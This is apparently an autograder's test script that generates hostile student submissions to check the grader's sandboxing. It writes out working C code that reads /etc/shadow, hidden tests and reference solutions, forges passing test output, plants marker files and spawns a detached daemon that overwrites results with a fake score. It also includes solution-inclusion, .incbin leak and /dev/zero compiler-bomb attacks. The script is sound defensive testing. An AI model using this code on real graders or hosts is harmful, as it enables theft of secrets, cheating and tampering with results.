#!/usr/bin/env bash
# hostile.sh: the grader against hostile submissions. Builds attacks on the
# lab 4 skeleton (build/lab4/kernel/*.c, `make lab4`) or on the reference
# (build/lab4-ref/), grades them, and checks that each gets only its honest
# score and leaks, leaves and breaks nothing.
#
# usage: grading/tests/hostile.sh GRADE
# GRADE is the grader binary (build/tools/grade). Prints one PASS:/FAIL:
# line per check; exit status 1 if any check failed. Submissions and runs
# go to build/test/hostile/ (build/test/hostile-$ISOLATION/ with
# ISOLATION); the big run trees are removed when every check passed.
#
# Environment:
#   ISOLATION=MODE      pass `--isolation MODE` to every grader call (also
#                       through run_autograder's GRADE_EXTRA_ARGS); a
#                       grader without that option is one FAIL
#                       With ISOLATION=user, as root: the grader refuses
#                       to start while another uid can read the solution
#                       or the hidden tests, so every entry of the project
#                       (and of build/, build/test/) but the way to this
#                       script's work directory is made go-rwx for the run
#                       (not recursively; the modes are put back at exit,
#                       or by the next run after a SIGKILL): other grader
#                       runs in this tree must not run meanwhile
#   HOSTILE_QUICK=1     only attacks 1-4 (one batch, one bomb), and the
#                       checks at the end
#   HOSTILE_GRADED=FILE once the last grader run is over (what is left is
#                       the wait for the daemons' time and the checks at
#                       the end), the modes made private are put back and
#                       FILE is made: from then on, other grader runs in
#                       this tree may run (make test runs the full suite
#                       meanwhile)
#   HOSTILE_BOMB_VMEM_KB  address-space cap (ulimit -v, KiB) of the
#                       compiler-bomb run alone, a safety net for this
#                       machine under a grader without memory limits
#                       (default 4 GiB: the grader's own limit must be
#                       lower to be the one that acts)
#
# First the skeleton, graded honestly (its per-test scores are the honest
# score of every skeleton-based attack). Then:
#   1 include-solution  each editable file is `#if __has_include(P)`
#                 `#include P` for P the reference's copy of that file:
#                 absolute (this tree's generated/ and build/lab4-ref/,
#                 the reference/ of /autograder/source/,
#                 the local autograder's source/, other runs' trees) and
#                 relative, ../ up to 8 levels; the skeleton otherwise.
#                 Must score what the skeleton does.
#   2 host-native  frame.c = the skeleton's plus a constructor compiled
#                 only for the host (the frames_unit test): it reads
#                 tests.spec, progs/g_walk.c (the hidden test),
#                 the reference's kernel/vm.c and /etc/shadow, writes marker
#                 files in /tmp, build/, grading/ and $HOME, starts a
#                 detached daemon (setsid, double fork, re-exec'd as
#                 hostile-daemon-TAG-...) that after 20 s writes more markers
#                 and overwrites the run's reports and results.json
#                 (batch and Gradescope places), then lingers 120 s more.
#                 host-pass prints 10 fake TAP "ok" lines and _exit(0)s;
#                 host-leak prints the secret lines as "not ok" lines (so a
#                 failed test quotes them) and _exit(1)s. Checks:
#                 frames_unit fails as the skeleton's does; no line of any
#                 secret in the report or results.json; no daemon alive
#                 after grading.
#   3 incbin-hidden  the reference, with syscall.c embedding g_walk.c by
#                 `.incbin` (paths tried under `#if __has_include`: the
#                 tree's user/, grading/lab4/progs/ relative and absolute)
#                 and frame_init printing it as "[kernel] panic leak:"
#                 lines, then panicking. Checks: no line of g_walk.c in
#                 what a student sees of results.json (its top-level output,
#                 the output of every test not hidden), and none of the
#                 hidden test's own log lines there either.
#   4 compiler-bomb  mm.c includes /dev/zero: graded within 60 s, score 0,
#                 status 1, and the report says "memory limit".
#   5 batch names  reference copies named alice, alice.txt, alice.json,
#                 batch, b<U+202E>ob, ctl<0x01>x, x (dirs) and x.tar.gz,
#                 in one --batch (on frames and the hidden walk: what is
#                 checked is names): a CSV row each, all full score; a report
#                 and a results.json each (OUT/NAME.txt and OUT/NAME.json,
#                 or OUT/NAME/report.txt and OUT/NAME/results.json); no
#                 U+202E and no control character but tab and newline (CR
#                 only before LF in the CSV) in the CSV, the reports, the
#                 results.json files (raw, and their strings decoded).
#   6 a single submission named batch (grading/grade --submission D/batch,
#                 default output): build/grade/batch/ (the default batch
#                 output, here with a marker) is not removed.
#   9 forger     no mmap, and a syscall.c that prints four public tests'
#                 lines from the tokens and seeds it reads out of the
#                 programs' images (grading/tests/forge.c): their hidden
#                 twins fail, the report says suspicious, the score is the
#                 same kernel's without forging (twins gate), and no
#                 student-visible part of results.json says so. Then,
#                 on one pair (mmap, mmap_h): the same through a batch (its
#                 CSV) and Gradescope (the instructor's stdout).
#   7 Gradescope  attacks 1 and 2 through run_autograder (AUTOGRADER_ROOT
#                 in build/test/hostile/, as grading/tests/gradescope.sh
#                 does): a valid results.json with the honest score, no
#                 secret in it, no daemon after; at the end, unchanged.
#   8 the hidden test: in every results.json above that has a hidden test,
#                 the top-level output does not name walk, and its
#                 "Score: X/Y" line (if any) counts only the tests a student
#                 sees (X, Y: their scores and max_scores added up).
# At the end, once, 23 s after the last run that started daemons: no marker
# file anywhere (/tmp, /var/tmp, /dev/shm, the project, $HOME, /home), no
# report, results.json or CSV changed since it was written, no daemon
# alive (any found is killed, by pid).
set -uo pipefail

grade=${1:?usage: hostile.sh GRADE}
[[ $grade == /* ]] || grade=$PWD/$grade
cd "$(dirname "${BASH_SOURCE[0]}")/../.." || exit 2
top=$PWD
iso=${ISOLATION:-}
quick=${HOSTILE_QUICK:-}
work=build/test/hostile${iso:+-$iso}
work_abs=$top/$work
ref=build/lab4-ref
skel=build/lab4
editable="frame vm mm elf syscall"
failed=0
pfx=${iso:+[isolation $iso] }
pass() { echo "PASS: hostile: $pfx$*"; }
fail() { echo "FAIL: hostile: $pfx$*"; failed=1; }
t_start=$SECONDS

# Every marker, file name and daemon of this run holds $mark.
tag="$$-$RANDOM$RANDOM"
mark="hostile-$tag"
owned="$mark-owned"

isoargs=()
if [ -n "$iso" ]; then
    if ! "$grade" --help 2>&1 | grep -q -- '--isolation'; then
        fail "ISOLATION=$iso, but $grade has no --isolation option"
        exit 1
    fi
    isoargs=(--isolation "$iso")
    if [ "$iso" = user ] && [ "$(id -u)" != 0 ]; then
        fail "ISOLATION=user: the grader's uid of its own needs root, and this is uid $(id -u)"
        exit 1
    fi
fi

# ---- cleanup, whatever happens ---------------------------------------------------
bdir=build/grade/batch           # the default batch output (attack 6)
saved_batch=
restore_batch() {
    [ -n "$saved_batch" ] || return 0
    rm -rf "$bdir"
    [ "$saved_batch" = none ] || mv "$saved_batch" "$bdir"
    saved_batch=
}
daemons() { pgrep -f "hostile-daemon-$tag" 2>/dev/null | tr '\n' ' '; }
kill_daemons() {
    local p
    for p in $(pgrep -f "hostile-daemon-$tag" 2>/dev/null); do kill -KILL "$p" 2>/dev/null; done
}
marker_dirs=(/tmp /var/tmp /dev/shm "$top")
find_markers() {
    { find "${marker_dirs[@]}" -xdev -name "$mark-*" 2>/dev/null
      find "$HOME" /home -maxdepth 3 -xdev -name "$mark-*" 2>/dev/null; } | sort -u
}
# ISOLATION=user: what another uid could read of the project, made private.
private_list=$top/build/test/.hostile${iso:+-$iso}.modes
make_private() {
    local e m
    : > "$private_list"
    for e in "$top"/* "$top"/.[!.]* "$top"/build/* "$top"/build/test/*; do
        [ -e "$e" ] && [ ! -L "$e" ] || continue
        case $e in "$top/build" | "$top/build/test" | "$work_abs") continue ;; esac
        m=$(stat -c %a "$e") || continue
        (( (8#$m & 8#077) != 0 )) || continue
        printf '%s\t%s\n' "$m" "$e" >> "$private_list" && chmod go-rwx "$e"
    done
}
restore_private() {
    [ -f "$private_list" ] || return 0
    local m e
    while IFS=$'\t' read -r m e; do chmod "$m" "$e"; done < "$private_list"
    rm -f "$private_list"
}
on_exit() {
    kill_daemons
    restore_private
    restore_batch
    find_markers | while IFS= read -r f; do rm -f "$f"; done
}
trap on_exit EXIT
trap 'exit 130' INT TERM HUP

restore_private                 # after a run that could not
rm -rf "$work"; mkdir -p "$work/snap"
make --no-print-directory -s lab4 > "$work/make-lab4.log" 2>&1 ||
    { fail "make lab4 failed; see $work/make-lab4.log"; exit 1; }
if [ "$iso" = user ] && [ "$(id -u)" = 0 ]; then
    make_private
    echo "hostile: for --isolation user, $(wc -l < "$private_list") entries of the project made go-rwx until the end"
fi
for f in $editable; do
    [ -f "$skel/kernel/$f.c" ] && [ -f "$ref/kernel/$f.c" ] ||
        { fail "no $skel/kernel/$f.c or $ref/kernel/$f.c"; exit 1; }
done

# ---- helpers ------------------------------------------------------------------------
# JSON and CSV reading (Perl's core JSON::PP). json.pl CMD FILE:
#   valid      exit 0 if FILE is a JSON object with a score
#   score      the top-level score
#   strings    every string in it, decoded, one after another
#   visible    the top-level output, then each non-hidden test's output
#   hidden     each hidden test's output
#   tests      NAME TAB VISIBILITY TAB SCORE TAB MAX_SCORE, a line each
#   scoreline  HIDDEN_TESTS VISIBLE_SCORE VISIBLE_MAX [X Y]...: the numbers
#              of every "Score: X/Y" in the top-level output
#   csv        a CSV file's rows: submission, score, max_score, status, message
#              (tab-separated)
jp=$work/json.pl
cat > "$jp" <<'EOF'
use strict; use warnings; use JSON::PP;
my ($cmd, $file) = @ARGV;
open(my $fh, '<:raw', $file) or exit 2;
my $text = do { local $/; <$fh> };
if ($cmd eq 'csv') {
    # states: 0 outside quotes, 1 inside, 2 a quote seen inside
    my (@rows, @f); my $field = ''; my $q = 0;
    for my $c (split //, $text) {
        if ($q == 1) { if ($c eq '"') { $q = 2 } else { $field .= $c } next }
        if ($q == 2) { if ($c eq '"') { $field .= '"'; $q = 1; next } $q = 0 }
        if ($c eq '"' && $field eq '') { $q = 1 }
        elsif ($c eq ',') { push @f, $field; $field = '' }
        elsif ($c eq "\r") { }
        elsif ($c eq "\n") { push @f, $field; push @rows, [@f]; @f = (); $field = '' }
        else { $field .= $c }
    }
    push @rows, [@f, $field] if $field ne '' || @f;
    my $h = shift @rows or exit 1;
    my %ix; @ix{@$h} = 0 .. $#$h;
    for my $r (@rows) {
        print join("\t", map { defined $ix{$_} ? $r->[$ix{$_}] // '' : '' }
                   qw(submission score max_score status message)), "\n";
    }
    exit 0;
}
my $j = eval { JSON::PP->new->utf8->decode($text) };
if ($cmd eq 'valid') { exit(ref $j eq 'HASH' && defined $j->{score} ? 0 : 1) }
exit 2 unless ref $j eq 'HASH';
binmode STDOUT, ':encoding(UTF-8)';
my @tests = ref $j->{tests} eq 'ARRAY' ? @{$j->{tests}} : ();
sub hidden { ($_[0]{visibility} // 'visible') eq 'hidden' }
sub strings { my $x = shift; ref $x eq 'HASH' ? map { strings($_) } values %$x
              : ref $x eq 'ARRAY' ? map { strings($_) } @$x : defined $x && !ref $x ? ("$x") : () }
if ($cmd eq 'score') { print $j->{score} // '', "\n" }
elsif ($cmd eq 'strings') { print "$_\n" for strings($j) }
elsif ($cmd eq 'top') { print $j->{output} // '', "\n" }
elsif ($cmd eq 'visible') { print $_->{output} // '', "\n" for $j, grep { !hidden($_) } @tests }
elsif ($cmd eq 'hidden') { print $_->{output} // '', "\n" for grep { hidden($_) } @tests }
elsif ($cmd eq 'tests') {
    printf "%s\t%s\t%s\t%s\n", $_->{name} // '', $_->{visibility} // 'visible',
           $_->{score} // 0, $_->{max_score} // 0 for @tests;
} elsif ($cmd eq 'scoreline') {
    my ($nh, $vs, $vm) = (0, 0, 0);
    for (@tests) { if (hidden($_)) { $nh++ } else { $vs += $_->{score} // 0; $vm += $_->{max_score} // 0 } }
    my @m = (($j->{output} // '') =~ m{Score:\s*([0-9.]+)\s*/\s*([0-9.]+)}g);
    print join(' ', $nh, $vs, $vm, @m), "\n";
} else { exit 2 }
EOF
json() { perl "$jp" "$@"; }

# Run the grader on one submission: run_grade NAME SUBMISSION [ARGS...].
# Sets $out (its output, also in $work/NAME.out), $status, $secs; its
# results.json is $work/NAME.json.
run_grade() {
    local name=$1 sub=$2; shift 2
    local t0=$SECONDS
    out=$("$grade" "${isoargs[@]}" --ref "$ref" --out "$work_abs/runs" --name "hostile-$name" \
          --submission "$sub" --json "$work_abs/$name.json" "$@" 2>&1); status=$?
    secs=$((SECONDS - t0))
    printf '%s\n' "$out" > "$work/$name.out"
}
score_of() { printf '%s\n' "$1" | sed -n 's/^Score: \([0-9]*\/[0-9]*\)$/\1/p' | tail -n 1; }
# The honest score of the tests named: the skeleton's points in them.
honest() {
    local t sum=0
    for t in "$@"; do
        sum=$((sum + $(awk -F'\t' -v t="$t" '$1 == t { print $3; f = 1 } END { if (!f) print 0 }' "$work/skel.tests")))
    done
    echo $sum
}
# The report and results.json of batch submission NAME in OUT: sets $rep, $js.
locate() {
    if [ -e "$1/$2/report.txt" ] || [ -e "$1/$2/results.json" ]; then
        rep=$1/$2/report.txt; js=$1/$2/results.json
    else
        rep=$1/$2.txt; js=$1/$2.json
    fi
}
# Keep a copy of a result file as written: snap FILE KEY (compared at the end).
snaps=()
snap() {
    [ -f "$1" ] || return 0
    cp "$1" "$work/snap/$2" && snaps+=("$1|$work/snap/$2")
}
# A reference tree's five editable files, or the skeleton's, into DIR/kernel.
five() {
    mkdir -p "$2/kernel"
    for f in $editable; do cp "$1/kernel/$f.c" "$2/kernel/"; done
}
ups() { local i s=; for ((i = 0; i < $1; i++)); do s+=../; done; printf '%s' "$s"; }
json_files=()                   # every results.json, for check 8
daemon_run=                     # $SECONDS after the last run that may have started daemons
seen_daemons=" "
check_daemons() {               # WHAT: no daemon alive now, but those already reported
    local p left=
    for p in $(daemons); do
        [[ $seen_daemons == *" $p "* ]] || left="$left$p "
    done
    seen_daemons="$seen_daemons$left"
    if [ -z "$left" ]; then
        pass "$1: no process of the attack alive after grading (pgrep -f hostile-daemon-$tag)"
    else
        fail "$1: processes of the attack alive after grading: pid $left($(ps -o args= -p ${left%% *} 2>/dev/null | cut -c1-60))"
    fi
}

# The local Gradescope autograder's source (attack 7): its path goes into
# the attacks too.
agsrc=$work_abs/ag-src

# The secrets attack 2 tries to read, and one distinctive line of each
# (trimmed) that must never show: KEY|FILE (the first line holding KEY).
secret_keys=("hidden walk test (instructor-only)|grading/lab4/tests.spec"
             "g_walk.c: pages all over|grading/lab4/progs/g_walk.c"
             "BEGIN SOLUTION lab4 ex2|$ref/kernel/vm.c")
trim() { sed -e 's/^[[:space:]]*//' -e 's/[[:space:]]*$//'; }
secret_lines=()
for s in "${secret_keys[@]}"; do
    l=$(grep -m 1 -F -- "${s%%|*}" "${s#*|}" 2>/dev/null | trim)
    [ -n "$l" ] || l=$(awk 'length > 30' "${s#*|}" 2>/dev/null | head -n 1 | trim)
    if [ -n "$l" ]; then
        secret_lines+=("${s#*|}|$l")
    else
        fail "no line of ${s#*|} to look for: the leak checks cannot see that file"
    fi
done
# The attacks aim at the hidden test walk and its program g_walk.c.
if ! awk '/^test /{ t = $2 } t == "walk" && /^visibility hidden$/{ f = 1 } END { exit !f }' grading/lab4/tests.spec ||
   [ ! -f grading/lab4/progs/g_walk.c ]; then
    fail "no hidden test walk in grading/lab4/tests.spec, or no grading/lab4/progs/g_walk.c: the attacks on the hidden test aim at nothing"
fi
shadow_root=$(grep -m 1 '^root:' /etc/shadow 2>/dev/null)
shadow_re='root:[^:]*:[0-9]*:[0-9]*:[0-9]*:[0-9]*:[^:]*:[^:]*:'
# The secrets found in the text on stdin, as "FILE FILE ...".
leaked_secrets() {
    local text s found=; text=$(cat)
    for s in "${secret_lines[@]}"; do
        grep -q -F -- "${s#*|}" <<< "$text" && found="$found ${s%%|*}"
    done
    { [ -n "$shadow_root" ] && grep -q -F -- "$shadow_root" <<< "$text"; } ||
        grep -q -e "$shadow_re" <<< "$text" && found="$found /etc/shadow"
    echo "${found# }"
}

# ---- the attacks -------------------------------------------------------------------
A=$work/a
mkdir -p "$A"

# 1. include-solution.
inc_paths() {                   # the places of the reference's kernel/$1.c
    local d
    printf '%s\n' "$top/$ref/kernel/$1.c" "$top/generated/kernel/$1.c" \
        "/autograder/source/reference/kernel/$1.c" "$agsrc/reference/kernel/$1.c" \
        "$top/build/grade/reference/tree/kernel/$1.c" \
        "$top/build/grade/runs/reference/tree/kernel/$1.c"
    for d in 1 2 3 4 5 6 7 8; do
        printf '%s\n' "$(ups $d)generated/kernel/$1.c" "$(ups $d)build/lab4-ref/kernel/$1.c" \
            "$(ups $d)reference/kernel/$1.c" "$(ups $d)reference/tree/kernel/$1.c" \
            "$(ups $d)runs/reference/tree/kernel/$1.c" "$(ups $d)grade/reference/tree/kernel/$1.c"
    done
}
mkdir -p "$A/include/kernel"
for f in $editable; do
    {
        echo "/* hostile: include-solution: the reference's $f.c, wherever it can be found */"
        kw=if
        while IFS= read -r p; do
            printf '#%s __has_include("%s")\n#include "%s"\n' "$kw" "$p" "$p"
            kw=elif
        done < <(inc_paths "$f")
        echo '#else'
        cat "$skel/kernel/$f.c"
        echo '#endif'
    } > "$A/include/kernel/$f.c"
done

# 2. host-native: two variants, MODE 0 (fake pass) and 1 (leak, fail).
host_attack() {
    local name=$1 mode=$2
    five "$skel" "$A/$name"
    {
        echo
        echo '/* ---- hostile: a host-native attack (grading/tests/hostile.sh) ---- */'
        echo '#if !defined(__riscv)'
        printf '#define H_TAG "%s"\n#define H_MARK "%s"\n#define H_OWNED "%s"\n' "$tag" "$mark" "$owned"
        printf '#define H_SUB "%s"\n#define H_MODE %d\n#define H_ROOT "%s"\n' "$name" "$mode" "$top"
        printf '#define H_AGSRC "%s"\n#define H_HOME "%s"\n' "$agsrc" "$HOME"
        printf '#define H_KEY_SPEC "%s"\n#define H_KEY_WALK "%s"\n#define H_KEY_SOL "%s"\n' \
            "${secret_keys[0]%%|*}" "${secret_keys[1]%%|*}" "${secret_keys[2]%%|*}"
        cat <<'EOF'
/*
 * Compiled only when frame.c is built for the host (the frames_unit test):
 * a constructor, run before the test's main. No libc header (the kernel's
 * own declarations are in scope): the few calls are declared here.
 */
typedef long h_ssize_t;
typedef unsigned long h_size_t;
int open(const char *path, int flags, ...);
h_ssize_t read(int fd, void *buf, h_size_t n);
h_ssize_t write(int fd, const void *buf, h_size_t n);
int close(int fd);
int fork(void);
int setsid(void);
int dup2(int from, int to);
int execve(const char *path, char *const argv[], char *const envp[]);
void _exit(int code) __attribute__((noreturn));
int getpid(void);
unsigned int sleep(unsigned int secs);
char *getenv(const char *name);
int snprintf(char *buf, h_size_t n, const char *fmt, ...);
int waitpid(int pid, int *status, int options);
#define H_O_RDONLY 0
#define H_O_WRONLY 01
#define H_O_RDWR 02
#define H_O_CREAT 0100
#define H_O_TRUNC 01000

static char h_file[1 << 16], h_line[1200], h_keep[4][600], h_targets[8][1024];

static h_size_t h_len(const char *s) { h_size_t n = 0; while (s[n]) n++; return n; }
static void h_put(const char *s) { h_ssize_t r = write(1, s, h_len(s)); (void)r; }
static int h_eq(const char *a, const char *b) { while (*a && *a == *b) a++, b++; return *a == *b; }
static const char *h_join(char *buf, h_size_t n, const char *a, const char *b)
{
    if (a == 0 || *a == 0)
        return 0;
    snprintf(buf, n, "%s%s", a, b);
    return buf;
}
/* Line [l, l + n) holds key (a leading ^: at its start). */
static int h_holds(const char *l, h_size_t n, const char *key)
{
    int anchored = key[0] == '^';
    key += anchored;
    h_size_t k = h_len(key);
    for (h_size_t i = 0; i + k <= n; i++) {
        h_size_t j = 0;
        while (j < k && l[i + j] == key[j])
            j++;
        if (j == k)
            return 1;
        if (anchored)
            break;
    }
    return 0;
}
/* The first readable of paths: every line printed as a TAP comment, the
   first that holds key kept in h_keep[i]. */
static void h_secret(int i, const char *what, const char *key, const char *const *paths, int n)
{
    for (int k = 0; k < n; k++) {
        if (paths[k] == 0)
            continue;
        int fd = open(paths[k], H_O_RDONLY);
        if (fd < 0) {
            snprintf(h_line, sizeof h_line, "# hostile: cannot read %s\n", paths[k]);
            h_put(h_line);
            continue;
        }
        h_ssize_t got = read(fd, h_file, sizeof h_file - 1);
        close(fd);
        h_file[got > 0 ? got : 0] = 0;
        snprintf(h_line, sizeof h_line, "# hostile: read %s (%ld bytes)\n", paths[k], (long)got);
        h_put(h_line);
        for (char *l = h_file; *l; ) {
            char *e = l;
            while (*e && *e != '\n')
                e++;
            int len = (int)(e - l);
            snprintf(h_line, sizeof h_line, "# leak %s: %.*s\n", what, len > 1000 ? 1000 : len, l);
            h_put(h_line);
            if (h_keep[i][0] == 0 && h_holds(l, (h_size_t)len, key))
                snprintf(h_keep[i], sizeof h_keep[i], "%.*s", len > 500 ? 500 : len, l);
            l = *e ? e + 1 : e;
        }
        return;
    }
}
static void h_mark(const char *dir, const char *what)
{
    if (dir == 0 || *dir == 0)
        return;
    char p[1100];
    snprintf(p, sizeof p, "%s/" H_MARK "-%s-%s-%d", dir, H_SUB, what, getpid());
    int fd = open(p, H_O_WRONLY | H_O_CREAT | H_O_TRUNC, 0644);
    snprintf(h_line, sizeof h_line, "# hostile: %s %s\n", fd < 0 ? "could not write" : "wrote", p);
    h_put(h_line);
    if (fd >= 0) {
        h_ssize_t r = write(fd, H_OWNED "\n", sizeof H_OWNED);
        (void)r;
        close(fd);
    }
}
/* The daemon: after 20 s, markers, and the run's reports overwritten
   (argv[1...]); then 120 s more, to be seen alive at the end. */
static void __attribute__((noreturn)) h_daemon(int argc, char **argv)
{
    unsigned left = 20;
    while (left)
        left = sleep(left);
    h_mark("/tmp", "daemon");
    h_mark(H_ROOT "/build", "daemon");
    h_mark(getenv("HOME"), "daemon");
    static const char fake[] = "{\"score\": 100, \"output\": \"" H_OWNED "\", \"tests\": []}\n";
    for (int i = 1; i < argc; i++) {
        int fd = open(argv[i], H_O_WRONLY | H_O_TRUNC);
        if (fd >= 0) {
            h_ssize_t r = write(fd, fake, sizeof fake - 1);
            (void)r;
            close(fd);
        }
    }
    left = 120;
    while (left)
        left = sleep(left);
    _exit(0);
}
/* Start the daemon: detached (setsid, double fork), its descriptors on
   /dev/null, re-executed under a name pgrep -f finds. */
static void h_spawn(char **argv)
{
    int nt = 0;
    const char *go = getenv("GRADE_OUT"), *ag = getenv("AUTOGRADER_ROOT");
    if (go && *go) {            /* GRADE_OUT is RUNDIR/TEST.d; RUNDIR is OUT/NAME */
        char r[1024];
        snprintf(r, sizeof r, "%s", go);
        char *s = r + h_len(r);
        while (s > r && s[-1] == '/')
            *--s = 0;
        while (s > r && s[-1] != '/')
            s--;
        if (s > r) {
            s[-1] = 0;
            char *nm = r + h_len(r);
            while (nm > r && nm[-1] != '/')
                nm--;
            snprintf(h_targets[nt++], sizeof h_targets[0], "%s/results.json", r);
            snprintf(h_targets[nt++], sizeof h_targets[0], "%s/report.txt", r);
            snprintf(h_targets[nt++], sizeof h_targets[0], "%s/result", r);
            if (nm > r) {
                snprintf(h_targets[nt++], sizeof h_targets[0], "%.*s%s.json", (int)(nm - r), r, nm);
                snprintf(h_targets[nt++], sizeof h_targets[0], "%.*s%s.txt", (int)(nm - r), r, nm);
            }
        }
    }
    if (ag && *ag)
        snprintf(h_targets[nt++], sizeof h_targets[0], "%s/results/results.json", ag);
    snprintf(h_targets[nt++], sizeof h_targets[0], "/autograder/results/results.json");
    int pid = fork();
    if (pid < 0)
        return;
    if (pid == 0) {
        setsid();
        if (fork() != 0)
            _exit(0);
        int nul = open("/dev/null", H_O_RDWR);
        dup2(nul, 0);
        dup2(nul, 1);
        dup2(nul, 2);
        for (int fd = 3; fd < 1024; fd++)
            close(fd);
        static char name[] = "hostile-daemon-" H_TAG "-" H_SUB;
        static char env_tag[] = "HOSTILE_DAEMON=" H_TAG;
        static char env_home[1100];
        const char *home = getenv("HOME");
        snprintf(env_home, sizeof env_home, "HOME=%s", home ? home : H_HOME);
        char *av[10], *ev[] = { env_tag, env_home, 0 };
        int n = 0;
        av[n++] = name;
        for (int i = 0; i < nt; i++)
            av[n++] = h_targets[i];
        av[n] = 0;
        execve("/proc/self/exe", av, ev);
        /* No /proc: stay, renamed in place as far as argv[0] goes. */
        if (argv && argv[0]) {
            h_size_t k = h_len(argv[0]), m = h_len(name);
            for (h_size_t i = 0; i < k; i++)
                argv[0][i] = i < m ? name[i] : 0;
        }
        h_daemon(n, av);
    }
    int st;
    waitpid(pid, &st, 0);
}
__attribute__((constructor)) static void hostile_main(int argc, char **argv, char **envp)
{
    (void)envp;
    const char *d = getenv("HOSTILE_DAEMON");
    if (d && h_eq(d, H_TAG))
        h_daemon(argc, argv);
    h_put("# hostile: " H_SUB " starts\n");
    const char *specdir = getenv("GRADE_SPECDIR"), *tree = getenv("GRADE_TREE");
    char b1[1100], b2[1100], b3[1100];
    const char *spec[] = { H_ROOT "/grading/lab4/tests.spec", H_AGSRC "/grading/lab4/tests.spec",
                           "/autograder/source/grading/lab4/tests.spec",
                           h_join(b1, sizeof b1, specdir, "/tests.spec") };
    h_secret(0, "tests.spec", H_KEY_SPEC, spec, 4);
    const char *walk[] = { H_ROOT "/grading/lab4/progs/g_walk.c", H_AGSRC "/grading/lab4/progs/g_walk.c",
                           "/autograder/source/grading/lab4/progs/g_walk.c",
                           h_join(b2, sizeof b2, specdir, "/progs/g_walk.c"),
                           h_join(b3, sizeof b3, tree, "/user/g_walk.c"), "user/g_walk.c" };
    h_secret(1, "g_walk.c", H_KEY_WALK, walk, 6);
    const char *sol[] = { H_ROOT "/generated/kernel/vm.c", H_ROOT "/build/lab4-ref/kernel/vm.c",
                          H_AGSRC "/reference/kernel/vm.c", "/autograder/source/reference/kernel/vm.c" };
    h_secret(2, "vm.c", H_KEY_SOL, sol, 4);
    const char *shadow[] = { "/etc/shadow" };
    h_secret(3, "shadow", "^root:", shadow, 1);
    h_mark("/tmp", "tmp");
    h_mark(H_ROOT "/build", "build");
    h_mark(H_ROOT "/grading", "grading");
    h_mark(getenv("HOME"), "home");
    h_mark(H_HOME, "homedir");
    h_spawn(argv);
#if H_MODE == 0
    h_put("1..10\n");
    for (int i = 1; i <= 10; i++) {
        snprintf(h_line, sizeof h_line, "ok %d - test_x%d\n", i, i);
        h_put(h_line);
    }
    _exit(0);
#else
    for (int i = 0; i < 4; i++)
        if (h_keep[i][0]) {
            snprintf(h_line, sizeof h_line, "not ok %d - leak: %s\n", 90 + i, h_keep[i]);
            h_put(h_line);
        }
    _exit(1);
#endif
}
#endif
EOF
    } >> "$A/$name/kernel/frame.c"
}
host_attack host-pass 0
host_attack host-leak 1

# 3. incbin-hidden: the reference, g_walk.c embedded in syscall.c and
# printed at boot by frame_init. (__has_include looks beside the source,
# in kernel/; .incbin in the compiler's directory, the tree.)
five "$ref" "$A/incbin"
{
    echo
    echo '/* ---- hostile: the hidden test program, embedded at build time ---- */'
    kw=if
    leak_paths() {
        local r d
        printf '%s|%s\n' ../user/g_walk.c user/g_walk.c
        for d in 2 3 4 5 6 7 8; do
            printf '%s|%s\n' "$(ups $d)grading/lab4/progs/g_walk.c" "$(ups $((d - 1)))grading/lab4/progs/g_walk.c"
        done
        for r in "$top" "$agsrc" /autograder/source; do
            printf '%s|%s\n' "$r/grading/lab4/progs/g_walk.c" "$r/grading/lab4/progs/g_walk.c"
        done
    }
    while IFS='|' read -r h i; do
        printf '#%s __has_include("%s")\n#define HOSTILE_LEAK_FILE "%s"\n' "$kw" "$h" "$i"
        kw=elif
    done < <(leak_paths)
    cat <<'EOF'
#endif
#ifdef HOSTILE_LEAK_FILE
__asm__(".section .rodata\n"
        ".global hostile_leak\n"
        "hostile_leak:\n"
        ".incbin \"" HOSTILE_LEAK_FILE "\"\n"
        ".byte 0\n"
        ".previous\n");
extern const char hostile_leak[];
#else
#define HOSTILE_LEAK_FILE "nothing"
static const char hostile_leak[] = "";
#endif
void hostile_leak_print(void);
void
hostile_leak_print(void)
{
    const char *p = hostile_leak;
    if (*p == '\0')
        return;
    while (*p) {
        const char *e = p;
        while (*e && *e != '\n')
            e++;
        console_write("[kernel] panic leak: ", 21);
        console_write(p, (uint64)(e - p));
        console_write("\n", 1);
        p = *e ? e + 1 : e;
    }
    panic("hostile: leaked %s", HOSTILE_LEAK_FILE);
}
EOF
} >> "$A/incbin/kernel/syscall.c"
perl -0pi -e 's/(\nvoid\nframe_init\(uint64 start, uint64 end\)\n\{\n)/\n#if defined(__riscv)\nvoid hostile_leak_print(void);\n#endif$1#if defined(__riscv)\n    hostile_leak_print();\n#endif\n/' \
    "$A/incbin/kernel/frame.c"
grep -q 'hostile_leak_print();' "$A/incbin/kernel/frame.c" ||
    fail "incbin: could not put the call into frame_init"
# The lines of g_walk.c a student must never see (trimmed, 20 characters or
# more, not in the practice program or lab4.h, which students have).
walk_secret=$work/g_walk.lines
grep -v -x -F -f <(cat grading/lab4/progs/g_walk_practice.c grading/lab4/progs/lab4.h 2>/dev/null | trim) \
    <(trim < grading/lab4/progs/g_walk.c 2>/dev/null) | awk 'length >= 20' | sort -u > "$walk_secret"

# 4. compiler-bomb.
five "$skel" "$work/bomb"
{ echo '#include "/dev/zero"'; cat "$skel/kernel/mm.c"; } > "$work/bomb/kernel/mm.c"

# ---- the skeleton, honestly ----------------------------------------------------------
# The tests the attacks are graded on (the Gradescope ones are among them).
sel_a=(frames_unit frames frames_h walk)
tests_a=(); for t in "${sel_a[@]}"; do tests_a+=(--test "$t"); done
run_grade skel "$skel" "${tests_a[@]}"
json tests "$work/skel.json" > "$work/skel.tests" 2>/dev/null
skel_score=$(score_of "$out")
if [ $status -eq 1 ] && [ -s "$work/skel.tests" ] && [[ $skel_score == */* ]] &&
   [ "${skel_score%/*}" != "${skel_score#*/}" ]; then
    pass "the skeleton ($skel) scores $skel_score honestly (${secs}s): every skeleton-based attack must score what it does"
else
    fail "the skeleton: status $status, score '$skel_score'; see $work/skel.out"
fi

# ---- attacks 1-3: one batch ------------------------------------------------------------
outa=$work_abs/out-a
t0=$SECONDS
"$grade" "${isoargs[@]}" --ref "$ref" --batch "$A" --csv "$work/a.csv" --out "$outa" \
    --parallel 2 -j 1 "${tests_a[@]}" > "$work/a.out" 2>&1; status=$?
secs=$((SECONDS - t0))
daemon_run=$SECONDS
check_daemons "host-native (batch)"
for n in include host-pass host-leak incbin; do
    locate "$outa" "$n"
    snap "$rep" "a-$n.txt"; snap "$js" "a-$n.json"
    json_files+=("$work/snap/a-$n.json")
done
if [ $status -eq 0 ] && [ "$(json csv "$work/a.csv" | wc -l)" -eq 4 ]; then
